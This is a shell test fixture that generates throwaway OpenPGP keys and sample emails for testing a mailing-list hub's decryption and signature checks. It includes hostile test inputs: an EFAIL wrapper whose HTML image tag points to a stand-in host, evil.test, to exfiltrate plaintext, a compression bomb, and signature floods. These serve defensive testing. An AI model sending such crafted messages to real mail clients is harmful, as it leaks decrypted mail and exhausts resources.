# Sourced by the crypto shell tests: INSECURE keys generated per run in a
# short temporary directory (the agent socket path limit), and sample
# mail made with the gpg CLI.  Plaintext is piped, never written to disk,
# so the canary test can look for it afterwards.
#
# Sets HUBT (scratch dir), HUB_GNUPGHOME (the hub: list secret key and the
# members' public keys), MEMBER_GNUPGHOME (members' secret keys),
# MAILDIR (sample mail), CANARY; fingerprints in $HUBT/fprs (sourced).
# A trap kills the agents and removes everything on exit.

FIXTURE_START=$(date +%s)
export FIXTURE_START
HUBT=$(mktemp -d /tmp/hubgpg.XXXXXX) || exit 99
fixture_cleanup() {
	for _h in "$HUBT/h" "$HUBT/m"; do
		[ -d "$_h" ] && gpgconf --homedir "$_h" --kill all 2>/dev/null
	done
	rm -rf "$HUBT"
}
trap fixture_cleanup EXIT
trap 'exit 99' INT TERM
HUB_GNUPGHOME=$HUBT/h
MEMBER_GNUPGHOME=$HUBT/m
MAILDIR=$HUBT/mail
mkdir -m 700 "$HUB_GNUPGHOME" "$MEMBER_GNUPGHOME" && mkdir "$MAILDIR" ||
	exit 99
export HUB_GNUPGHOME MEMBER_GNUPGHOME MAILDIR

CANARY=canary-$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')
export CANARY

gh() { gpg --homedir "$HUB_GNUPGHOME" --batch --no-tty --quiet \
	--pinentry-mode loopback --passphrase '' "$@"; }
gm() { gpg --homedir "$MEMBER_GNUPGHOME" --batch --no-tty --quiet \
	--pinentry-mode loopback --passphrase '' --trust-model always "$@"; }
fpr_of() {
	gpg --homedir "$1" --batch --with-colons --list-keys "$2" 2>/dev/null |
	    awk -F: '/^fpr/ { print $10; exit }'
}
# Generate an ed25519/cv25519 key; extra args go to gpg (faked time).
mkkey() {
	_home=$1 _uid=$2 _exp=$3
	shift 3
	gpg --homedir "$_home" --batch --no-tty --quiet --pinentry-mode \
	    loopback --passphrase '' "$@" --quick-gen-key "$_uid" ed25519 \
	    sign "$_exp" 2>/dev/null || exit 99
	_f=$(fpr_of "$_home" "$_uid")
	gpg --homedir "$_home" --batch --no-tty --quiet --pinentry-mode \
	    loopback --passphrase '' "$@" --quick-add-key "$_f" cv25519 \
	    encr "$_exp" || exit 99
	echo "$_f"
}

# A key whose primary only certifies and which signs with a subkey, as
# Thunderbird, smartcards and GpgOL make them; prints the primary's
# fingerprint, the signing subkey's in $1.sign.
mksubkey() {
	_home=$1 _uid=$2
	gpg --homedir "$_home" --batch --no-tty --quiet --pinentry-mode \
	    loopback --passphrase '' --quick-gen-key "$_uid" ed25519 cert \
	    never 2>/dev/null || exit 99
	_f=$(fpr_of "$_home" "$_uid")
	for _u in 'ed25519 sign' 'cv25519 encr'; do
		# shellcheck disable=SC2086
		gpg --homedir "$_home" --batch --no-tty --quiet \
		    --pinentry-mode loopback --passphrase '' \
		    --quick-add-key "$_f" $_u never || exit 99
	done
	echo "$_f"
}
sign_sub() {
	gpg --homedir "$1" --batch --with-colons --list-keys "$2" 2>/dev/null |
	    awk -F: '/^sub/ { s = ($12 ~ /s/) } /^fpr/ && s { print $10; exit }'
}

LIST_FPR=$(mkkey "$HUB_GNUPGHOME" 'Test List INSECURE <list@hub.test>' never)
ALICE_FPR=$(mkkey "$MEMBER_GNUPGHOME" 'Alice INSECURE <alice@cert.test>' never)
STRANGER_FPR=$(mkkey "$MEMBER_GNUPGHOME" 'Mallory INSECURE <m@evil.test>' never)
OTHER_FPR=$(mkkey "$MEMBER_GNUPGHOME" 'Other INSECURE <o@cert.test>' never)
REVOKED_FPR=$(mkkey "$MEMBER_GNUPGHOME" 'Rita INSECURE <rita@cert.test>' never)
EXPIRED_FPR=$(mkkey "$MEMBER_GNUPGHOME" 'Ed INSECURE <ed@cert.test>' 1d \
	--faked-system-time 20200101T000000!)
SUBSIG_FPR=$(mksubkey "$MEMBER_GNUPGHOME" 'Sue INSECURE <sue@cert.test>')
SUBSIG_SIGN=$(sign_sub "$MEMBER_GNUPGHOME" "$SUBSIG_FPR")
[ -n "$SUBSIG_SIGN" ] && [ "$SUBSIG_SIGN" != "$SUBSIG_FPR" ] || exit 99
# Alice certifies Other's key (an endorsement, for keys_certified_by)
gm --quick-sign-key "$OTHER_FPR" 'Other INSECURE <o@cert.test>' \
	>/dev/null 2>&1 || exit 99

gh --export "$LIST_FPR" | gm --import 2>/dev/null || exit 99
subid() {
	gpg --homedir "$1" --batch --with-colons --list-keys "$2" 2>/dev/null |
	    awk -F: '/^sub/ { print $5; exit }'
}
LIST_SUB=$(subid "$HUB_GNUPGHOME" "$LIST_FPR")
ALICE_SUB=$(subid "$MEMBER_GNUPGHOME" "$ALICE_FPR")
OTHER_SUB=$(subid "$MEMBER_GNUPGHOME" "$OTHER_FPR")
export LIST_SUB ALICE_SUB OTHER_SUB
cat > "$HUBT/fprs" <<EOT
LIST_FPR=$LIST_FPR
ALICE_FPR=$ALICE_FPR
STRANGER_FPR=$STRANGER_FPR
OTHER_FPR=$OTHER_FPR
REVOKED_FPR=$REVOKED_FPR
EXPIRED_FPR=$EXPIRED_FPR
SUBSIG_FPR=$SUBSIG_FPR
SUBSIG_SIGN=$SUBSIG_SIGN
EOT
export LIST_FPR ALICE_FPR STRANGER_FPR OTHER_FPR REVOKED_FPR EXPIRED_FPR \
    SUBSIG_FPR SUBSIG_SIGN

crlf() { sed 's/\r*$/\r/'; }
B=hubtestboundary0
# wrap_enc <armored-ciphertext-file-or-stdin> [extra outer headers]
wrap_enc() {
	{
		printf 'From: alice@cert.test\nTo: list@hub.test\n'
		printf 'Subject: %s\n' "${SUBJ:-test}"
		printf 'MIME-Version: 1.0\n'
		printf 'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="%s"\n\n' "$B"
		printf 'This is an OpenPGP/MIME encrypted message\n--%s\n' "$B"
		printf 'Content-Type: application/pgp-encrypted\n\nVersion: 1\n\n'
		printf -- '--%s\nContent-Type: application/octet-stream; name="encrypted.asc"\n\n' "$B"
		cat
		printf -- '\n--%s--\n' "$B"
	} | crlf
}
# wrap_signed <entity-file> <sig-file>: multipart/signed around them
wrap_signed() {
	printf 'Content-Type: multipart/signed; micalg=pgp-sha256; protocol="application/pgp-signature"; boundary="S%s"\r\n\r\n' "$B"
	printf -- '--S%s\r\n' "$B"
	cat "$1"
	printf -- '\r\n--S%s\r\nContent-Type: application/pgp-signature\r\n\r\n' "$B"
	crlf < "$2"
	printf -- '\r\n--S%s--\r\n' "$B"
}
hdrs() { printf 'From: %s\r\nTo: list@hub.test\r\nSubject: %s\r\nMIME-Version: 1.0\r\n' "${FROM:-alice@cert.test}" "${SUBJ:-test}"; }
entity() { printf 'Content-Type: text/plain; charset=utf-8\r\n\r\nHello %s\r\n' "$CANARY"; }

M=$MAILDIR
# combined sign+encrypt (RFC 3156 §6.2)
entity | gm -u "$ALICE_FPR" -r "$LIST_FPR" -s -e -a | wrap_enc > $M/combined.eml
# protected headers
{ printf 'Subject: Real subject\r\nContent-Type: text/plain; charset=utf-8; protected-headers="v1"\r\n\r\nHidden %s\r\n' "$CANARY"; } |
	gm -u "$ALICE_FPR" -r "$LIST_FPR" -s -e -a | SUBJ='...' wrap_enc > $M/protected.eml
# nested: multipart/signed inside the encryption (§6.1)
printf 'Content-Type: text/plain; charset=utf-8\r\n\r\nNested hello\r\n' > $HUBT/e1
gm -u "$ALICE_FPR" --detach-sign -a -o $HUBT/s1 $HUBT/e1
wrap_signed $HUBT/e1 $HUBT/s1 | gm -r "$LIST_FPR" -e -a | wrap_enc > $M/nested.eml
rm -f $HUBT/e1 $HUBT/s1
# signed only: multipart/signed, the first part a small multipart
printf 'Content-Type: text/plain; charset=us-ascii\r\n\r\nsigned body\r\n' > $HUBT/e2
gm -u "$ALICE_FPR" --detach-sign -a -o $HUBT/s2 $HUBT/e2
{ hdrs; wrap_signed $HUBT/e2 $HUBT/s2; } > $M/signed.eml
# signature over different content
sed 's/signed body/signed b0dy/' $HUBT/e2 > $HUBT/e3
{ hdrs; wrap_signed $HUBT/e3 $HUBT/s2; } > $M/badsig.eml
# expired key: signed in 2020 with a key valid for one day
gm --faked-system-time 20200101T120000! -u "$EXPIRED_FPR" --detach-sign -a -o $HUBT/s4 $HUBT/e2 2>/dev/null
{ hdrs; wrap_signed $HUBT/e2 $HUBT/s4; } > $M/expired.eml
# unsigned, encrypted only
entity | gm -r "$LIST_FPR" -e -a | wrap_enc > $M/unsigned.eml
# wrong key: encrypted to someone else
entity | gm -u "$ALICE_FPR" -r "$OTHER_FPR" -s -e -a | wrap_enc > $M/wrongkey.eml
# unknown signer
entity | gm -u "$STRANGER_FPR" -r "$LIST_FPR" -s -e -a | wrap_enc > $M/unknown.eml
# revoked key (revoked after signing; the hub has the revocation)
entity | gm -u "$REVOKED_FPR" -r "$LIST_FPR" -s -e -a | wrap_enc > $M/revoked.eml
sed 's/^:-----/-----/' "$MEMBER_GNUPGHOME/openpgp-revocs.d/$REVOKED_FPR.rev" | gm --import 2>/dev/null
# no MDC (EFAIL): SED packet, gpg makes one only with --rfc2440
entity | gm -r "$LIST_FPR" --rfc2440 --cipher-algo 3DES -e -a 2>/dev/null | wrap_enc > $M/nomdc.eml
# tampered: one byte of binary ciphertext flipped, sent base64
entity | gm -u "$ALICE_FPR" -r "$LIST_FPR" -s -e > $HUBT/ct
_n=$(wc -c < $HUBT/ct); _o=$((_n - 30))
{ head -c $_o $HUBT/ct; head -c $((_o + 1)) $HUBT/ct | tail -c 1 | tr '\000-\377' '\377\000-\376'; tail -c +$((_o + 2)) $HUBT/ct; } > $HUBT/ct2
{ hdrs; printf 'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="%s"\r\n\r\n--%s\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--%s\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n' $B $B $B; base64 $HUBT/ct2 | crlf; printf -- '--%s--\r\n' $B; } > $M/tampered.eml
rm -f $HUBT/ct $HUBT/ct2
# plaintext prepended / appended outside the encryption; EFAIL wrapping
sed 1,4d $M/combined.eml > $HUBT/encpart	# the multipart/encrypted entity
for pos in prepended appended efail; do
	{
		hdrs
		printf 'Content-Type: multipart/mixed; boundary="M%s"\r\n\r\n' $B
		case $pos in
		prepended) printf -- '--M%s\r\nContent-Type: text/plain\r\n\r\nUnsigned prefix\r\n' $B ;;
		efail) printf -- '--M%s\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.test/?\r\n' $B ;;
		esac
		printf -- '--M%s\r\n' $B; cat $HUBT/encpart
		case $pos in
		appended) printf -- '\r\n--M%s\r\nContent-Type: text/plain\r\n\r\nList footer\r\n' $B ;;
		efail) printf -- '\r\n--M%s\r\nContent-Type: text/html\r\n\r\n">\r\n' $B ;;
		esac
		printf -- '\r\n--M%s--\r\n' $B
	} > $M/$pos.eml
done
# Exchange/Outlook mangling: multipart/mixed [empty text, control, payload]
entity | gm -u "$ALICE_FPR" -r "$LIST_FPR" -s -e -a > $HUBT/ea
{ hdrs; printf 'Content-Type: multipart/mixed; boundary="X%s"\r\n\r\n--X%s\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n\r\n--X%s\r\nContent-Type: application/pgp-encrypted\r\nContent-Disposition: attachment\r\n\r\nVersion: 1\r\n\r\n--X%s\r\nContent-Type: application/octet-stream; name="encrypted.asc"\r\nContent-Disposition: attachment; filename="encrypted.asc"\r\n\r\n' $B $B $B $B; crlf < $HUBT/ea; printf -- '\r\n--X%s--\r\n' $B; } > $M/exchange.eml
# inline PGP, quoted-printable ISO-8859-1 text around nothing
printf 'Gr\374\337e %s\n' "$CANARY" | gm -u "$ALICE_FPR" -r "$LIST_FPR" -s -e -a > $HUBT/ia
{ hdrs; printf 'Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n'; sed 's/=/=3D/g' $HUBT/ia | crlf; } > $M/inline.eml
# inline, ISO-2022-JP, base64 transfer encoding
printf '\343\201\223\343\202\223\343\201\253\343\201\241\343\201\257 %s\n' "$CANARY" | iconv -f UTF-8 -t ISO-2022-JP |
	gm -u "$ALICE_FPR" -r "$LIST_FPR" -s -e -a > $HUBT/ij
{ hdrs; printf 'Content-Type: text/plain; charset=ISO-2022-JP\r\nContent-Transfer-Encoding: base64\r\n\r\n'; crlf < $HUBT/ij | base64 | crlf; } > $M/inline-jp.eml
# clearsigned text
printf 'Clearsigned text\n' | gm -u "$ALICE_FPR" --clearsign > $HUBT/cs
{ hdrs; printf 'Content-Type: text/plain; charset=us-ascii\r\n\r\n'; crlf < $HUBT/cs; } > $M/clearsigned.eml
# inline attachment report.txt.pgp beside an inline-encrypted body
printf 'attached %s\n' "$CANARY" | gm -u "$ALICE_FPR" -r "$LIST_FPR" -s -e > $HUBT/att
{ hdrs; printf 'Content-Type: multipart/mixed; boundary="A%s"\r\n\r\n--A%s\r\nContent-Type: text/plain\r\n\r\n' $B $B; crlf < $HUBT/ia; printf -- '\r\n--A%s\r\nContent-Type: application/octet-stream; name="report.txt.pgp"\r\nContent-Disposition: attachment; filename="report.txt.pgp"\r\nContent-Transfer-Encoding: base64\r\n\r\n' $B; base64 $HUBT/att | crlf; printf -- '--A%s--\r\n' $B; } > $M/inline-attach.eml
# signed by a signing subkey: combined, and a multipart/signed
entity | gm -u "$SUBSIG_FPR" -r "$LIST_FPR" -s -e -a | FROM=sue@cert.test wrap_enc > $M/subkey.eml
gm -u "$SUBSIG_FPR" --detach-sign -a -o $HUBT/s5 $HUBT/e2
{ FROM=sue@cert.test hdrs; wrap_signed $HUBT/e2 $HUBT/s5; } > $M/subkey-signed.eml
# for a passphrase only (SKESK, no PKESK): gpg would ask for it forever
entity | gm --passphrase INSECURE-pass -c -a | wrap_enc > $M/symmetric.eml
# a passphrase and another member's key, none of the list's
entity | gm --passphrase INSECURE-pass -c -e -r "$OTHER_FPR" -a | wrap_enc > $M/symmetric-other.eml
# opaque signed, not encrypted (gpg --sign, armored, compressed) inline;
# and uncompressed, by the signing subkey, as a .asc attachment
printf 'Opaque signed text\n' | gm -u "$ALICE_FPR" -s -a > $HUBT/os
{ hdrs; printf 'Content-Type: text/plain; charset=us-ascii\r\n\r\n'; crlf < $HUBT/os; } > $M/opaque.eml
printf 'Opaque signed text\n' | gm -u "$SUBSIG_FPR" -z 0 -s -a > $HUBT/os
{ FROM=sue@cert.test hdrs; printf 'Content-Type: application/octet-stream; name="report.txt.asc"\r\nContent-Disposition: attachment; filename="report.txt.asc"\r\n\r\n'; crlf < $HUBT/os; } > $M/opaque-subkey.eml
rm -f $HUBT/os $HUBT/s5
# Review of d516705 (framing written by tests/crypto/pgpgen.py around
# packets gpg made; no cryptography there).
PGPGEN="python3 $top_srcdir/tests/crypto/pgpgen.py"
inline_msg() { hdrs; printf 'Content-Type: text/plain; charset=us-ascii\r\n\r\n'; crlf; }
# F1: a compressed packet around a session key and encrypted data, with
# and without MDC: the opaque signed path must not decrypt it
entity | gm -r "$LIST_FPR" -z 0 -e | $PGPGEN compress armor | inline_msg > $M/comp-enc.eml
entity | gm -r "$LIST_FPR" --rfc2440 --cipher-algo 3DES -z 0 -e 2>/dev/null |
	$PGPGEN compress armor | inline_msg > $M/comp-nomdc.eml
# F2: 500 signatures over one literal, opaque (framing visible) and
# inside the encryption (gpg --no-literal encrypts the packets as they are)
printf 'Flooded text\n' | gm -u "$ALICE_FPR" -z 0 -s > $HUBT/os1
$PGPGEN manysig 500 armor < $HUBT/os1 | inline_msg > $M/opaque-many.eml
$PGPGEN manysig 500 < $HUBT/os1 |
	gm -r "$LIST_FPR" -z 0 --no-literal -e -a 2>/dev/null | wrap_enc > $M/enc-many.eml
$PGPGEN manysig 4 < $HUBT/os1 |
	gm -r "$LIST_FPR" -z 0 --no-literal -e -a 2>/dev/null | wrap_enc > $M/enc-4sig.eml
rm -f $HUBT/os1
# F3: a lone user id packet, and one in front of a real post
printf '' | $PGPGEN uid armor | inline_msg > $M/uid-only.eml
entity | gm -u "$ALICE_FPR" -r "$LIST_FPR" -s -e | $PGPGEN uid armor |
	inline_msg > $M/uid-post.eml
printf '' | $PGPGEN uid armor > $HUBT/uidsig
printf 'Content-Type: text/plain\r\n\r\nsigned?\r\n' > $HUBT/e9
{ hdrs; wrap_signed $HUBT/e9 $HUBT/uidsig; } > $M/uid-detached.eml
rm -f $HUBT/uidsig $HUBT/e9
# compression bomb: 80 MiB of zeros, about 80 KiB of ciphertext
head -c 83886080 /dev/zero | gm -u "$ALICE_FPR" -r "$LIST_FPR" -z 9 -s -e -a | wrap_enc > $M/bomb.eml
# truncated armor
{ hdrs; printf 'Content-Type: text/plain\r\n\r\n'; head -n 4 $HUBT/ia | crlf; } > $M/truncated.eml
rm -f $HUBT/ea $HUBT/ia $HUBT/ij $HUBT/cs $HUBT/att $HUBT/encpart $HUBT/e2 $HUBT/e3 $HUBT/s2 $HUBT/s4

# the hub knows the members' public keys, not Mallory's, not the secrets
gm --export "$ALICE_FPR" "$OTHER_FPR" "$REVOKED_FPR" "$EXPIRED_FPR" "$SUBSIG_FPR" |
	gh --import 2>/dev/null || exit 99
# F4: the hub's keyring with an agent that cannot start (a broken
# agent-program): the secret keys are there, gpg-agent is not
AGENTLESS_GNUPGHOME=$HUBT/h8
mkdir -m 700 "$AGENTLESS_GNUPGHOME" || exit 99
(cd "$HUB_GNUPGHOME" && tar cf - --exclude='S.*' --exclude='*.lock' .) |
	(cd "$AGENTLESS_GNUPGHOME" && tar xf -) || exit 99
echo 'agent-program /bin/false' >> "$AGENTLESS_GNUPGHOME/gpg.conf"
echo 'agent-program /bin/false' >> "$AGENTLESS_GNUPGHOME/gpg-agent.conf"
export AGENTLESS_GNUPGHOME
